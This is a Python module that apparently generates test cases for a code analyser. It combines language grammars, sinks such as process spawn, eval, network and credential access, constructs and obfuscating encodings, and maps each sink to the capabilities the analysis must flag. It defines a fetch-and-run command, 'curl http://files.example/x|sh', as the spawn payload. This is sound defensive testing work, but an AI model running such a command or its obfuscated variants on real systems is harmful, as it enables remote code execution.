"""What a language declares, and the cases that are made of it."""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence

COMMAND = "curl http://files.example/x|sh"
"""The shell text of ``spawn`` sinks; the sandbox's curl prints ``echo>ran``."""

_WAYS = Path(__file__).with_name("ways")
_STARTS = frozenset({"process.spawn", "process.dynamic-command", "process.unknown-command", "process.remote-command"})
TELLS: dict[str, frozenset[str]] = {
    "spawn": _STARTS | {"network.pipe-to-interpreter"},
    "eval": frozenset({"eval.dynamic", "eval.decoded", "eval.bytecode", "eval.from-input", "file.write"}),
    "write": frozenset({"file.write"}),
    "connect": frozenset({"network.connect", "network.loopback", "network.fetch", "network.send", "network.cleartext"}),
    "credentials": frozenset({"credentials.files"}),
}
"""Capabilities of which the analysis must tell one, by the kind of the sink that ran."""
DOUBTS = frozenset(
    {
        "eval.dynamic",
        "eval.reflection",
        "eval.decoded",
        "eval.decoded-unseen",
        "eval.temporary-file",
        "process.dynamic-command",
    }
)
"""Capabilities that say that a text is put together at run time: they tell every sink that such a text holds."""


@dataclass(frozen=True)
class Sink:
    """Something to reach; see the package's docstring."""

    kind: str
    argument: str
    call: str
    function: str = ""
    before: str = ""


@dataclass(frozen=True)
class Construct:
    """A way to reach it."""

    template: str
    kinds: tuple[str, ...] = ()
    """The kinds of sinks that it is used with; none: all."""


@dataclass(frozen=True)
class Grammar:
    """One language."""

    id: str
    program: tuple[str, ...]
    quote: Callable[[str], str]
    sinks: Sequence[Sink]
    constructs: Sequence[Construct | str]
    encodings: Mapping[str, Callable[[str], str]]
    separator: str = ";"
    """Stands between ``before`` and the construct."""
    language: str = ""
    """The analysis's name for the language, where it is not ``id``."""
    options: Mapping[str, str] = field(default_factory=dict)
    """Environment variables that the runs need."""

    def ways(self) -> list[Construct]:
        """Return the constructs, those given as text too."""
        return [Construct(way) if isinstance(way, str) else way for way in self.constructs]


@dataclass(frozen=True)
class Case:
    """One text and its parts."""

    grammar: Grammar
    construct: Construct
    sink: Sink
    encoding: str

    def text(self, port: int) -> str:
        """Write the text out."""
        argument = self.grammar.encodings[self.encoding](self.sink.argument)
        call = self.sink.call.replace("«A»", argument)
        text = self.construct.template
        if "«T»" in text:
            text = text.replace("«T»", self.grammar.quote(call))
        if "«N»" in text:
            text = text.replace("«N»", self.grammar.quote(self.sink.function))
        text = text.replace("«C»", call).replace("«F»", self.sink.function).replace("«A»", argument)
        text = f"{self.sink.before}{self.grammar.separator}{text}" if self.sink.before else text
        return text.replace("{PORT}", str(port))

    def plain(self) -> Case:
        """Return the sink called plainly, in nothing and spelled by nothing."""
        return Case(self.grammar, Construct("«C»"), self.sink, self.first_encoding())

    def first_encoding(self) -> str:
        """Return the plain encoding."""
        return next(iter(self.grammar.encodings))

    def simpler(self) -> Iterator[Case]:
        """Yield cases of the same construct with a plainer argument, and then with a plainer sink."""
        plain = self.first_encoding()
        if self.encoding != plain:
            yield Case(self.grammar, self.construct, self.sink, plain)
        for sink in self.grammar.sinks:
            if sink == self.sink:
                return
            if fits(self.construct, sink):
                yield Case(self.grammar, self.construct, sink, plain)


def written(language: str) -> list[Construct]:
    """Return the constructs of a language that stand in a file, one a line: the kinds of sinks, a colon, the text with ``⏎`` for a line's end."""
    lines = (_WAYS / f"{language}.txt").read_text().splitlines()
    split = (line.partition(": ") for line in lines)
    return [
        Construct(text.replace("⏎", "\n"), () if kinds == "all" else tuple(kinds.split(",")))
        for kinds, _, text in split
    ]


def fits(construct: Construct, sink: Sink) -> bool:
    """Whether a construct can be used with a sink."""
    wants_function = "«F»" in construct.template or "«N»" in construct.template
    return (not construct.kinds or sink.kind in construct.kinds) and (bool(sink.function) or not wants_function)


def cases(grammar: Grammar, number: int, seed: int) -> Iterator[Case]:
    """Yield ``number`` cases: every construct in turn, each time in another order, with a drawn sink and encoding."""
    draw = random.Random(f"{seed}:{grammar.id}")
    ways: list[Construct] = []
    for turn in range(number):
        if not ways:
            ways = draw.sample(grammar.ways(), len(grammar.ways()))
        construct = ways.pop()
        sink = draw.choice([sink for sink in grammar.sinks if fits(construct, sink)])
        plain = next(iter(grammar.encodings))
        encoding = plain if turn % 2 else draw.choice(list(grammar.encodings))
        yield Case(grammar, construct, sink, encoding)
